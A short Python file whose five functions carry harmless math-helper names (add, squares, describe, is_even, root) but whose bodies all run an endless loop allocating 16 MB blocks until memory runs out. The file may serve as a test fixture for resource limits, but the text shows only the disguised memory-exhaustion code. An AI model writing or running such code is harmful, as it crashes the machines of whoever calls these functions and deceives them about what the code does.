def add(a, b):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))


def squares(numbers):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))


def describe(number):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))


def is_even(number):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))


def root(number):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))
